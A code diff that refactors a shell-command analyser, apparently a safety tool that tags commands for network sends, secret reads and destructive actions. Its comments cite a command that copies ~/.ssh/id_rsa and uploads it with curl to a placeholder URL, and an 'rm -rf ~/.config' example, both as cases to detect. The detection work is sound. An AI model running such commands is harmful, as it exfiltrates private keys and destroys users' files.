@@ -36,18 +36,18 @@ export function draft(
     program,
     path,
     argv: starting.argv.map((arg) => arg.text),
-    subcommand: [],
-    options: {},
-    operands: [],
+    subcommand: NONE,
+    options: NO_ENTRIES,
+    operands: NONE,
     inert: null,
-    effects: [],
+    effects: NONE,
     via: frame.via as string[],
     privileged: frame.privileged,
     remote: frame.remote,
     pipeline: ALONE,
     input: distinct(frame.input.taints),
     assignments: assignmentsOf(starting, frame),
-    redirections: starting.redirected?.list ?? [],
+    redirections: starting.redirected?.list ?? NONE,
     code: null,
     unresolved: [],
     disguises: disguisesIn(starting.source, program),
@@ -57,8 +57,11 @@ export function draft(
   };
 }
 
-function distinct(taints: readonly Taint[]): Taint[] {
-  return taints.length < 2 ? (taints as Taint[]) : [...new Set(taints)];
+const NONE: readonly never[] = [];
+const NO_ENTRIES: { readonly [name: string]: never } = {};
+
+function distinct(taints: readonly Taint[]): readonly Taint[] {
+  return taints.length < 2 ? taints : [...new Set(taints)];
 }
 
 /** The source with unknown parts as they were written (see `withHoles`). */
@@ -67,9 +70,9 @@ function shownSource(source: string, frame: Frame): string {
   return source.replace(HOLE, (whole, name: string) => sourceOf(frame.scene.textOf(name) ?? [whole]));
 }
 
-function assignmentsOf(starting: Starting, frame: Frame): { [name: string]: string | null } {
+function assignmentsOf(starting: Starting, frame: Frame): Invocation['assignments'] {
   const { exported } = frame.scene;
-  if (exported.size > 0 && starting.assignments.size === 0) return environmentOf(frame);
+  if (starting.assignments.size === 0) return exported.size > 0 ? environmentOf(frame) : NO_ENTRIES;
   const assignments: { [name: string]: string | null } = exported.size > 0 ? { ...environmentOf(frame) } : {};
   for (const [name, text] of starting.assignments) setOwn(assignments, name, shownValue(text));
   return assignments;
@@ -143,25 +146,23 @@ export function finish(
   effects: readonly Effect[],
   frame: Frame,
 ): void {
-  const all = [...effects, ...redirectionEffects(invocation, starting, frame)];
-  for (let at = 0, own = all.length; at < own; at++) {
-    const guard = onGuardBelow(all[at]!, invocation, frame.walker.context);
-    if (guard !== null) all.push(guard);
-  }
-  // A secret under another name, written earlier in the request: `cp ~/.ssh/id_rsa /tmp/n; curl -T /tmp/n URL`.
-  const { written } = frame.scene;
-  let copied: boolean | null = null;
-  const isCopy = (each: Effect) =>
-    each.action === 'read' && written.get(each.target.value)?.taints.includes('secret') === true;
+  const redirected = redirectionEffects(invocation, starting, frame);
+  let all: readonly Effect[] =
+    redirected.length === 0 ? effects : effects.length === 0 ? redirected : [...effects, ...redirected];
+  let guards: Effect[] | null = null;
   for (const each of all) {
-    const sends = each.action === 'send' || each.action === 'publish';
-    if (sends) copied ??= all.some(isCopy);
-    const carries = sends
-      ? carriedBy(each, invocation, copied === true, starting.redirected?.socket === each.target)
-      : each.carries;
-    invocation.effects.push(carries === each.carries ? each : { ...each, carries });
-    if (DESTRUCTIVE.has(each.action) && each.target.scope === 'unknown') {
-      addUnresolved(invocation, { kind: 'target', source: each.target.value });
+    const guard = onGuardBelow(each, invocation, frame.walker.context);
+    if (guard === null) continue;
+    guards ??= [];
+    guards.push(guard);
+  }
+  if (guards) all = [...all, ...guards];
+  // A copy of its own that is no longer than it has to be: a long script's invocations are kept to its end.
+  if (all.length > 0)
+    invocation.effects = all.some(isSending) ? sending(all, invocation, starting, frame) : all.slice();
+  for (const { action, target } of all) {
+    if (target.scope === 'unknown' && DESTRUCTIVE.has(action)) {
+      addUnresolved(invocation, { kind: 'target', source: target.value });
     }
   }
   const socket = starting.redirected?.socket;
@@ -170,8 +171,27 @@ export function finish(
     invocation.program === 'exec' &&
     starting.redirected?.list.every(({ fd }) => fd !== null && fd > 2) === true;
   if (socket && !opens && invocation.program !== null && isShell(invocation.program)) {
-    invocation.effects.push(effect('execute', socket, { carries: ['network'] }));
+    invocation.effects = [...invocation.effects, effect('execute', socket, { carries: ['network'] })];
   }
+}
+
+const isSending = ({ action }: Effect): boolean => action === 'send' || action === 'publish';
+
+/** The effects, where some send: each with what it carries besides. */
+function sending(all: readonly Effect[], invocation: Invocation, starting: Starting, frame: Frame): Effect[] {
+  // A secret under another name, written earlier in the request: `cp ~/.ssh/id_rsa /tmp/n; curl -T /tmp/n URL`.
+  const { written } = frame.scene;
+  const copied = all.some(
+    (each) => each.action === 'read' && written.get(each.target.value)?.taints.includes('secret') === true,
+  );
+  const effects: Effect[] = [];
+  for (const each of all) {
+    const carries = isSending(each)
+      ? carriedBy(each, effects, invocation.input, copied, starting.redirected?.socket === each.target)
+      : each.carries;
+    effects.push(carries === each.carries ? each : { ...each, carries });
+  }
+  return effects;
 }
 
 /** `rm -rf ~/.config` takes hoopx's own files with it: what reaches everything below a folder reaches them there. */
@@ -211,7 +231,7 @@ function redirectionEffects(
   { redirected }: Starting,
   frame: Frame,
 ): readonly Effect[] {
-  if (!redirected) return [];
+  if (!redirected || redirected.effects.length === 0) return NONE;
   return redirected.effects.map((each) =>
     each.action === 'write' &&
     hasContent(each.target) &&
